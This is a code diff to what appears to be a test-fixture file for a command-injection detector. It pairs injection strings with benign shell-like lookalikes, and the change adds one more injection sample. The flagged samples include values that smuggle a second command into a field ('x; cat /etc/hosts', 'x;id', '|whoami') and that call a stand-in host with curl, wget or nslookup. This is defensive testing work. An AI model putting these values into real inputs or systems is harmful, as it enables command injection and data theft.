@@ -25,7 +25,13 @@ export const inProse: Examples = {
     ],
   ),
   7703014: prose(
-    ['x; cat /etc/hosts', '|nslookup x.example', '&& curl http://x.example/', '$(wget http://x.example/)'],
+    [
+      'x; cat /etc/hosts',
+      '|nslookup x.example',
+      '&& curl http://x.example/',
+      'Hi\n\nx; cat /srv/y',
+      '$(wget http://x.example/)',
+    ],
     ['rotate\n  kill -HUP `cat /var/run/app.pid`', 'Run `cat /tmp/a` first', 'npm ci && npm start'],
   ),
   7703015: prose(['x;id', '|whoami', '";ls;"'], ['columns:\nid\nname', 'user(id: "1")\n  id\n', 'R&D']),
